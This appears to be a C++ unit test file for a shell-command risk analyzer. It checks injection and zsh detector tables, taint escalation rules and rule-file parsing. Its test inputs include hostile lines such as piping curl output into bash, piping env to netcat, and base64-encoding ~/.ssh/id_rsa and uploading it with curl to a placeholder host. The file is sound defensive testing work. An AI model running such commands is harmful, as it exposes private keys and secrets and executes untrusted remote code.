// Detector, escalation and rule-file behaviour checked row by row and end to
// end, through the real parser and analyzer where a whole line is involved.
#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <string>
#include <vector>

#include "corvane.h"
#include "custom_rules.h"
#include "rules/injection.h"
#include "rules/escalations.h"
#include "rules/zsh.h"
#include "test_support.h"

namespace corvane {
namespace {

using RF = RiskFactor;

struct DetectorRow {
  std::string_view id;
  std::string_view description;
  int weight;
  RiskFactor factor;
};

void expect_table(std::span<const rules::PatternRule> table, const std::vector<DetectorRow>& expected) {
  ASSERT_EQ(table.size(), expected.size());
  for (std::size_t i = 0; i < expected.size(); ++i) {
    SCOPED_TRACE(expected[i].id);
    EXPECT_EQ(table[i].id, expected[i].id);
    EXPECT_EQ(table[i].description, expected[i].description);
    EXPECT_EQ(table[i].weight, expected[i].weight);
    EXPECT_EQ(table[i].risk_factor, expected[i].factor);
  }
}

TEST(ConformanceRules, InjectionRowsVerbatim) {
  expect_table(rules::injection_rules(), {
      {"command_substitution_dollar", "$() command substitution", 40, RF::CommandSubstitution},
      {"command_substitution_backtick", "Backtick command substitution", 40, RF::CommandSubstitution},
      {"process_substitution_in", "<() process substitution", 45, RF::ProcessSubstitution},
      {"process_substitution_out", ">() process substitution", 45, RF::ProcessSubstitution},
      {"parameter_expansion", "${} parameter expansion", 35, RF::ShellInjection},
      {"ifs_injection", "IFS variable manipulation", 50, RF::ShellInjection},
      {"arithmetic_expansion", "Arithmetic expansion", 30, RF::ShellInjection},
      {"unicode_whitespace", "Non-ASCII whitespace (obfuscation)", 45, RF::ShellInjection},
      {"control_characters", "Control characters in command", 45, RF::ShellInjection},
      {"carriage_return", "Carriage return (misparsing risk)", 40, RF::ShellInjection},
      {"ansi_c_quoting", "ANSI-C quoting (can encode arbitrary bytes)", 35, RF::ObfuscatedCommand},
      {"escaped_semicolon", "Escaped semicolon", 25, RF::ShellInjection},
      {"escaped_pipe", "Escaped pipe", 25, RF::ShellInjection},
      {"escaped_ampersand", "Escaped ampersand", 25, RF::ShellInjection},
      {"brace_expansion", "Brace expansion", 20, RF::ShellInjection},
      {"proc_environ_access", "Process environment access", 50, RF::SecretsExposure},
      {"dev_tcp_udp", "Bash /dev/tcp or /dev/udp network access", 55, RF::NetworkExfiltration},
      {"base64_pipe", "Base64 encoding in pipeline (potential obfuscation)", 30, RF::ObfuscatedCommand},
      {"eval_usage", "eval/source command usage", 50, RF::CommandExecution},
      {"dot_sourcing", "Dot-sourcing a script (. /path)", 50, RF::CommandExecution},
      {"hex_escape_sequences", "Hex/unicode escape sequences (obfuscation)", 35, RF::ObfuscatedCommand},
      {"ld_preload", "LD_PRELOAD/LD_LIBRARY_PATH injection", 55, RF::PathInjection},
      {"path_injection", "PATH environment variable override", 50, RF::PathInjection},
      {"history_manipulation", "Shell history manipulation", 40, RF::ShellInjection},
      {"null_byte", "Null byte injection", 50, RF::ShellInjection},
      {"pipe_to_shell", "Output piped to shell or interpreter execution", 55, RF::PipeToExecution},
  });
}

TEST(ConformanceRules, ZshRowsVerbatim) {
  expect_table(rules::zsh_rules(), {
      {"zmodload", "Loading zsh modules (can enable dangerous builtins)", 55, RF::ZshModuleLoading},
      {"zsh_system_module", "zsh/system module (sysopen, sysread, syswrite)", 60, RF::ZshModuleLoading},
      {"zsh_zpty_module", "zsh/zpty module (pseudo-terminal execution)", 55, RF::ZshModuleLoading},
      {"zsh_net_tcp", "zsh TCP networking module", 55, RF::ZshModuleLoading},
      {"zsh_net_socket", "zsh socket networking module", 55, RF::ZshModuleLoading},
      {"zsh_mapfile", "zsh/mapfile (invisible file I/O via array)", 45, RF::ZshModuleLoading},
      {"zsh_files_module", "zsh/files builtins (file operations bypassing PATH)", 45, RF::ZshModuleLoading},
      {"emulate_eval", "emulate -c (eval equivalent in zsh)", 50, RF::CommandExecution},
      {"sysopen", "sysopen (direct file descriptor access)", 50, RF::ZshModuleLoading},
      {"sysread_syswrite", "sysread/syswrite/sysseek (raw I/O)", 50, RF::ZshModuleLoading},
      {"glob_qualifier_exec", "Zsh glob qualifier with code execution", 55, RF::ZshGlobExecution},
      {"equals_expansion", "Zsh equals expansion (=cmd \xE2\x86\x92 /path/to/cmd)", 40, RF::ZshGlobExecution},
      {"always_block", "Zsh always block (try/always construct)", 30, RF::ShellInjection},
      {"precommand_noglob", "Zsh noglob precommand modifier", 20, RF::ShellInjection},
      {"zsh_autoload", "Zsh autoload -U (loading functions)", 25, RF::ZshModuleLoading},
  });
}

TEST(ConformanceRules, EscalationRowsVerbatim) {
  using enum rules::TaintSourceKind;
  using enum rules::TaintSinkKind;
  using enum rules::EncodingRequirement;
  struct Row {
    std::string_view name;
    std::string_view description;
    int bonus;
    rules::TaintSourceKind source;
    rules::TaintSinkKind sink;
    rules::EncodingRequirement encoding;
  };
  const std::vector<Row> expected = {
      {"sensitive_file_to_network", "Sensitive file content sent to network", 30, SensitiveFile, NetworkSend, Any},
      {"any_to_execution", "Data piped to shell execution", 35, AnyRead, Execution, Any},
      {"network_download_to_execution", "Remote content piped to execution (curl|bash pattern)", 35, NetworkDownload, Execution, Any},
      {"sensitive_file_encoded_to_network", "Sensitive data encoded then exfiltrated", 40, SensitiveFile, NetworkSend, Required},
      {"sensitive_file_to_file_write", "Sensitive data copied to new location", 20, SensitiveFile, FileWrite, Any},
      {"env_var_to_network", "Environment variables exfiltrated to network", 30, EnvironmentVar, NetworkSend, Any},
      {"network_download_to_file_write", "Remote content written to file", 15, NetworkDownload, FileWrite, Any},
      {"any_read_to_network", "Local data sent to network", 20, AnyRead, NetworkSend, Any},
      {"env_var_to_execution", "Environment variable content executed", 30, EnvironmentVar, Execution, Any},
      {"sensitive_file_encoded_to_file_write", "Sensitive data encoded and written to file", 25, SensitiveFile, FileWrite, Required},
      {"any_read_encoded_to_network", "Data encoded then exfiltrated", 30, AnyRead, NetworkSend, Required},
      {"env_var_encoded_to_network", "Environment variables encoded then exfiltrated", 35, EnvironmentVar, NetworkSend, Required},
      {"network_download_encoded_to_execution", "Remote content decoded then executed", 40, NetworkDownload, Execution, Required},
      {"any_read_to_file_write", "Data read and written to new location", 10, AnyRead, FileWrite, Any},
      {"sensitive_file_to_execution", "Sensitive file content executed as commands", 35, SensitiveFile, Execution, Any},
  };
  const auto table = rules::escalation_rules();
  ASSERT_EQ(table.size(), expected.size());
  for (std::size_t i = 0; i < expected.size(); ++i) {
    SCOPED_TRACE(expected[i].name);
    EXPECT_EQ(table[i].name, expected[i].name);
    EXPECT_EQ(table[i].description, expected[i].description);
    EXPECT_EQ(table[i].bonus, expected[i].bonus);
    EXPECT_EQ(table[i].source, expected[i].source);
    EXPECT_EQ(table[i].sink, expected[i].sink);
    EXPECT_EQ(table[i].encoding, expected[i].encoding);
  }
}

// ---------------------------------------------------------------------------
// Character rows over every character and every byte

std::string utf8(char32_t cp) {
  std::string s;
  if (cp < 0x80) {
    s += static_cast<char>(cp);
  } else if (cp < 0x800) {
    s += static_cast<char>(0xC0 | (cp >> 6));
    s += static_cast<char>(0x80 | (cp & 0x3F));
  } else if (cp < 0x10000) {
    s += static_cast<char>(0xE0 | (cp >> 12));
    s += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    s += static_cast<char>(0x80 | (cp & 0x3F));
  } else {
    s += static_cast<char>(0xF0 | (cp >> 18));
    s += static_cast<char>(0x80 | ((cp >> 12) & 0x3F));
    s += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
    s += static_cast<char>(0x80 | (cp & 0x3F));
  }
  return s;
}

// Every White_Space character.
const std::set<char32_t>& white_space() {
  static const std::set<char32_t> set = [] {
    std::set<char32_t> s = {0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x20, 0x85, 0xA0, 0x1680,
                            0x2028, 0x2029, 0x202F, 0x205F, 0x3000};
    for (char32_t c = 0x2000; c <= 0x200A; ++c) s.insert(c);
    return s;
  }();
  return set;
}

bool fires(std::span<const rules::PatternRule> table, std::string_view id, std::string_view text) {
  for (const auto& m : rules::matching_patterns(table, text))
    if (m.id == id) return true;
  return false;
}

TEST(ConformanceRules, UnicodeWhitespaceMatchesExactlyTheUnusualWhiteSpace) {
  std::vector<char32_t> wrong;
  for (char32_t cp = 0; cp <= 0x10FFFF; ++cp) {
    if (cp >= 0xD800 && cp <= 0xDFFF) continue;
    const bool expected = white_space().contains(cp) && cp != 0x20 && cp != 0x09 && cp != 0x0A && cp != 0x0D;
    if (fires(rules::injection_rules(), "unicode_whitespace", "ls" + utf8(cp) + "x") != expected)
      wrong.push_back(cp);
  }
  EXPECT_TRUE(wrong.empty()) << "first wrong code point: " << std::hex << static_cast<unsigned>(wrong.front());
}

TEST(ConformanceRules, ByteRowsOverEveryByte) {
  for (int b = 0; b < 256; ++b) {
    SCOPED_TRACE(b);
    const std::string text = std::string("a") + static_cast<char>(b) + "b";
    EXPECT_EQ(fires(rules::injection_rules(), "control_characters", text),
              b <= 0x08 || (b >= 0x0E && b <= 0x1F) || b == 0x7F);
    EXPECT_EQ(fires(rules::injection_rules(), "null_byte", text), b == 0);
    EXPECT_EQ(fires(rules::injection_rules(), "carriage_return", text), b == 0x0D);
    EXPECT_EQ(fires(rules::injection_rules(), "command_substitution_backtick", text), b == 0x60);
  }
}

// "=ls" after any White_Space character is a word of its own; after any other
// character it is part of the word before it.
TEST(ConformanceRules, EqualsWordSplitsAtEveryWhiteSpaceCharacterOnly) {
  std::vector<char32_t> wrong;
  for (char32_t cp = 0; cp <= 0x10FFFF; ++cp) {
    if (cp >= 0xD800 && cp <= 0xDFFF) continue;
    if (fires(rules::zsh_rules(), "equals_expansion", "echo" + utf8(cp) + "=ls") != white_space().contains(cp))
      wrong.push_back(cp);
  }
  EXPECT_TRUE(wrong.empty()) << "first wrong code point: " << std::hex << static_cast<unsigned>(wrong.front());
}

// The letter after "=" is any character with the Alphabetic property, which
// is wider than the letter categories and narrower than "not a symbol".
TEST(ConformanceRules, EqualsWordLetterIsTheAlphabeticProperty) {
  const std::vector<std::pair<char32_t, bool>> cases = {
      {0x2160, true},   // ROMAN NUMERAL ONE, a letter number
      {0x0345, true},   // COMBINING GREEK YPOGEGRAMMENI, a mark that is Alphabetic
      {0x24B6, true},   // CIRCLED LATIN CAPITAL LETTER A, a symbol that is Alphabetic
      {0x02B0, true},   // MODIFIER LETTER SMALL H
      {0x0300, false},  // COMBINING GRAVE ACCENT
      {0x0661, false},  // ARABIC-INDIC DIGIT ONE
      {0x00B2, false},  // SUPERSCRIPT TWO
      {0x2192, false},  // RIGHTWARDS ARROW
  };
  for (const auto& [cp, hit] : cases)
    EXPECT_EQ(fires(rules::zsh_rules(), "equals_expansion", "echo =" + utf8(cp) + "x"), hit)
        << std::hex << static_cast<unsigned>(cp);
}

TEST(ConformanceRules, PipeTargetsAreTheTwentyEightSubstrings) {
  const std::vector<std::string> names = {"bash", "sh", "zsh", "fish", "ksh", "csh", "tcsh",
                                          "dash", "python", "python3", "perl", "ruby", "node", "nodejs"};
  for (const std::string& name : names) {
    for (const char* bar : {"|", "| "}) {
      std::string upper = name;
      std::transform(upper.begin(), upper.end(), upper.begin(), [](char c) { return static_cast<char>(c - 32 * (c >= 'a' && c <= 'z')); });
      EXPECT_TRUE(fires(rules::injection_rules(), "pipe_to_shell", "x " + std::string(bar) + name)) << name;
      EXPECT_TRUE(fires(rules::injection_rules(), "pipe_to_shell", "x " + std::string(bar) + upper)) << upper;
    }
    EXPECT_FALSE(fires(rules::injection_rules(), "pipe_to_shell", "x |  " + name)) << name;
    EXPECT_FALSE(fires(rules::injection_rules(), "pipe_to_shell", "x |\t" + name)) << name;
  }
  EXPECT_TRUE(fires(rules::injection_rules(), "pipe_to_shell", "a ||bash"));
  EXPECT_FALSE(fires(rules::injection_rules(), "pipe_to_shell", "x | pyth"));
  EXPECT_FALSE(fires(rules::injection_rules(), "pipe_to_shell", "x | rub"));
}

// ---------------------------------------------------------------------------
// Detectors through the analyzer

using testing_support::run;

std::vector<RiskFactor> segment_factors(std::string_view command, const ClassifyContext* ctx = nullptr) {
  const AnalysisResult r = run(command, ctx);
  EXPECT_EQ(r.sub_commands.size(), 1u) << command;
  return r.sub_commands.empty() ? std::vector<RiskFactor>{} : r.sub_commands[0].risk_factors;
}

TEST(ConformanceRules, DetectorFactorsReachTheSegmentOnceInTableOrder) {
  EXPECT_EQ(segment_factors("echo $((1+2))"),
            (std::vector<RiskFactor>{RF::CommandSubstitution, RF::ShellInjection}));
  // History (shell_injection) comes before LD_PRELOAD (path_injection) in the
  // table although it is last in the text; IFS and ${ give shell_injection once.
  EXPECT_EQ(segment_factors("LD_PRELOAD=x HISTFILE=/dev/null a${IFS}b"),
            (std::vector<RiskFactor>{RF::ShellInjection, RF::PathInjection}));
}

TEST(ConformanceRules, ZshDetectorsOnlyForZshAndAfterTheInjectionRows) {
  ClassifyContext bash;
  ClassifyContext zsh;
  zsh.shell = ShellKind::Zsh;
  EXPECT_EQ(segment_factors("zmodload zsh/net/tcp"), std::vector<RiskFactor>{});
  EXPECT_EQ(segment_factors("zmodload zsh/net/tcp", &bash), std::vector<RiskFactor>{});
  EXPECT_EQ(segment_factors("zmodload zsh/net/tcp", &zsh), std::vector<RiskFactor>{RF::ZshModuleLoading});
  EXPECT_EQ(segment_factors("mapfile -t lines", &zsh), std::vector<RiskFactor>{RF::ZshModuleLoading});
  // An injection factor first, then the zsh ones; "noglob" adds shell_injection
  // again, which is already there.
  EXPECT_EQ(segment_factors("noglob echo $(zpty x) =ls", &zsh),
            (std::vector<RiskFactor>{RF::CommandSubstitution, RF::ZshModuleLoading, RF::ZshGlobExecution,
                                     RF::ShellInjection}));
  // Without zsh the score ignores the zsh rows entirely.
  EXPECT_EQ(run("zmodload zsh/system", &bash).score, run("zmodlaod zsh/systen", &bash).score);
  EXPECT_GT(run("zmodload zsh/system", &zsh).score, run("zmodload zsh/system", &bash).score);
}

// ---------------------------------------------------------------------------
// Pipeline flows of whole lines

int highest_segment_score(const AnalysisResult& r) {
  int m = 0;
  for (const auto& a : r.sub_commands) m = std::max<int>(m, a.score);
  return m;
}

TEST(ConformanceRules, PipelineFlowTypesOfWholeLines) {
  EXPECT_FALSE(run("ls").pipeline_flow.has_value());
  struct Case {
    const char* line;
    FlowType type;
    std::size_t flows;
  };
  const Case cases[] = {
      {"ls | wc -l", FlowType::Pipe, 0},       // wc is no sink
      {"cat a && rm b", FlowType::And, 0},     // no pipe before rm
      {"env | cat && bash", FlowType::Mixed, 0},  // && directly before bash
      {"ls || bash", FlowType::Or, 0},
      {"ls; bash", FlowType::Sequence, 0},
      {"env && ls | bash", FlowType::Mixed, 2},   // (env, bash) and (ls, bash)
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.line);
    const AnalysisResult r = run(c.line);
    ASSERT_TRUE(r.pipeline_flow.has_value());
    EXPECT_EQ(r.pipeline_flow->flow_type, c.type);
    EXPECT_EQ(r.pipeline_flow->taint_flows.size(), c.flows);
    if (c.flows == 0) {
      EXPECT_EQ(r.pipeline_flow->composite_score, highest_segment_score(r));
    }
  }
  const AnalysisResult r = run("env && ls | bash");
  ASSERT_EQ(r.pipeline_flow->taint_flows.size(), 2u);
  const TaintFlow& first = r.pipeline_flow->taint_flows[0];
  EXPECT_EQ(first.source.type, TaintSourceType::EnvironmentVar);
  EXPECT_EQ(first.propagators, (std::vector<TaintProp>{{TaintPropType::Passthrough, ""}}));
  EXPECT_EQ(first.escalation_reason, "Data piped to shell execution");
}

TEST(ConformanceRules, CurlPipedToBashLine) {
  const AnalysisResult r = run("curl -s h | bash");
  ASSERT_TRUE(r.pipeline_flow.has_value());
  const PipelineFlow& p = *r.pipeline_flow;
  EXPECT_EQ(p.flow_type, FlowType::Pipe);
  ASSERT_EQ(p.taint_flows.size(), 1u);
  EXPECT_EQ(p.taint_flows[0],
            (TaintFlow{{TaintSourceType::CommandOutput, ""}, {}, {TaintSinkType::Execution, ""}, 35,
                       "Remote content piped to execution (curl|bash pattern)"}));
  EXPECT_EQ(p.composite_score, std::min(100, highest_segment_score(r) + 35));
  EXPECT_EQ(r.score, p.composite_score);
  EXPECT_EQ(r.reason, "Pipeline: " + run("curl -s h").reason + " | " + run("bash").reason +
                          "; Remote content piped to execution (curl|bash pattern)");
}

TEST(ConformanceRules, EnvironmentIntoNetcatLine) {
  const AnalysisResult r = run("env | nc h 80");
  ASSERT_TRUE(r.pipeline_flow.has_value());
  ASSERT_EQ(r.pipeline_flow->taint_flows.size(), 1u);
  EXPECT_EQ(r.pipeline_flow->taint_flows[0],
            (TaintFlow{{TaintSourceType::EnvironmentVar, ""}, {}, {TaintSinkType::NetworkSend, ""}, 30,
                       "Environment variables exfiltrated to network"}));
  EXPECT_EQ(r.pipeline_flow->composite_score, std::min(100, highest_segment_score(r) + 30));
}

TEST(ConformanceRules, SecretEncodedAndUploadedLine) {
  const AnalysisResult r = run("cat ~/.ssh/id_rsa | base64 | curl -T - h");
  ASSERT_TRUE(r.pipeline_flow.has_value());
  const PipelineFlow& p = *r.pipeline_flow;
  ASSERT_EQ(p.taint_flows.size(), 2u);
  EXPECT_EQ(p.taint_flows[0],
            (TaintFlow{{TaintSourceType::SensitiveFile, "~/.ssh/id_rsa"}, {{TaintPropType::Encoding, "base64"}},
                       {TaintSinkType::NetworkSend, ""}, 40, "Sensitive data encoded then exfiltrated"}));
  EXPECT_EQ(p.taint_flows[1],
            (TaintFlow{{TaintSourceType::Stdin, ""}, {}, {TaintSinkType::NetworkSend, ""}, 20,
                       "Local data sent to network"}));
  EXPECT_EQ(p.composite_score, std::min(100, highest_segment_score(r) + 40));
  EXPECT_EQ(r.score, p.composite_score);

  // Another encoder still reports "base64".
  const AnalysisResult gz = run("cat ~/.ssh/id_rsa | gzip | nc h 80");
  ASSERT_TRUE(gz.pipeline_flow.has_value());
  bool encoded_flow = false;
  for (const TaintFlow& f : gz.pipeline_flow->taint_flows)
    if (f.sink.type == TaintSinkType::NetworkSend && f.source.type == TaintSourceType::SensitiveFile) {
      encoded_flow = true;
      EXPECT_EQ(f.propagators, (std::vector<TaintProp>{{TaintPropType::Encoding, "base64"}}));
      EXPECT_EQ(f.escalation, 40);
    }
  EXPECT_TRUE(encoded_flow);
}

TEST(ConformanceRules, DollarMakesAnEnvironmentSource) {
  const AnalysisResult r = run("echo $HOME | bash");
  ASSERT_TRUE(r.pipeline_flow.has_value());
  ASSERT_EQ(r.pipeline_flow->taint_flows.size(), 1u);
  EXPECT_EQ(r.pipeline_flow->taint_flows[0].source.type, TaintSourceType::EnvironmentVar);
  // any_to_execution (35) beats env_var_to_execution (30).
  EXPECT_EQ(r.pipeline_flow->taint_flows[0].escalation_reason, "Data piped to shell execution");
}

// Every source paired with every later sink it is piped into: n downloads
// and n shells alternating give n(n+1)/2 flows, up to the cap of 1000 flows
// a line records.
TEST(ConformanceRules, EveryPipedPairIsRecordedUpToTheCap) {
  for (const std::size_t n : {44u, 46u}) {
    std::string line = "curl h | bash";
    for (std::size_t k = 1; k < n; ++k) line += " | curl h | bash";
    const AnalysisResult r = run(line);
    ASSERT_TRUE(r.pipeline_flow.has_value());
    EXPECT_EQ(r.pipeline_flow->taint_flows.size(), std::min<std::size_t>(n * (n + 1) / 2, 1000)) << n;
  }
}

// ---------------------------------------------------------------------------
// Rule text

// A valid document whose deepest value is far below any parser limit: a
// dotted key of 130 parts on one line and an array nested 130 deep on another.
TEST(ConformanceRules, ModeratelyNestedValidDocumentIsRead) {
  std::string key = "a";
  for (int i = 0; i < 129; ++i) key += ".a";
  const std::string text = key + " = 1\nx = " + std::string(130, '[') + std::string(130, ']') +
                           "\n[[overrides]]\ncommand = \"make\"\nscore = 70\n";
  const std::optional<RuleConfig> config = RuleConfig::from_toml(text);
  ASSERT_TRUE(config.has_value());
  ASSERT_EQ(config->overrides.size(), 1u);
  EXPECT_EQ(config->overrides[0].score, 70);
}

TEST(ConformanceRules, OnlyTomlOneZeroIsValid) {
  const std::string invalid[] = {
      "x = { a = 1, }\n",            // trailing comma in an inline table
      "x = { a = 1,\n b = 2 }\n",    // line break in an inline table
      "x = \"\\e\"\n",               // escape added after 1.0
      "x = \"\\x41\"\n",
      "x = 07:32\n",                 // seconds are required
      "# a\x7f" "b\nx = 1\n",        // DEL in a comment
      "a = 1\rb = 2\n",              // lone carriage return
  };
  for (const std::string& text : invalid)
    EXPECT_FALSE(RuleConfig::from_toml(text).has_value()) << ::testing::PrintToString(text);
}

}  // namespace
}  // namespace corvane
